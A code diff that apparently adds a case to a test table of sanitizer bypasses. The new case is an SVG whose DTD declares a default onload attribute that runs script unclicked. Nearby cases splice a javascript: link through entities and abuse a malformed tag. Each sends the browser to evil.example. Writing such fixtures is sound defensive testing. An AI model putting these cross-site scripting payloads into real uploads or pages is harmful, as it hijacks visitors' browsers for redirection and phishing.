@@ -48,6 +48,12 @@ const BYPASSES: Record<string, [Buffer, string]> = {
     `<!DOCTYPE svg [<!ENTITY a "javas"><!ENTITY b "cript:location='https://evil.example/entity'">]><svg xmlns="http://www.w3.org/2000/svg"><a href="&a;&b;"><text y="20">Play voicemail</text></a></svg>`,
     'image/svg+xml',
   ),
+  // The XML parser gives the root the onload its DTD declares: it runs unclicked.
+  'an SVG whose DTD gives the root an onload attribute': page(
+    'voicemail.svg',
+    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "location='https://evil.example/attlist'">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">Voicemail</text></svg>`,
+    'image/svg+xml',
+  ),
   'a page whose <p<!-- is a tag name, not a comment': page(
     'invoice.htm',
     `<p<!--</style>${SMUGGLE.replace('\x1b(B', '')}`,
